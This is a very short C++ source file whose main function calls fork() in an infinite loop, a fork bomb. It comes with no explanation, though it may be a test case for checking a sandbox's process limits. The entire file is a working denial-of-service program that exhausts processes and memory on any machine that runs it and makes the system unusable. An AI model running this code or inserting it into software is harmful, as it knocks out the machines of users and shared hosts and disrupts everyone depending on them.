#include <initializer_list>
#include <unistd.h>
int main() {
    for (;;) fork();
}
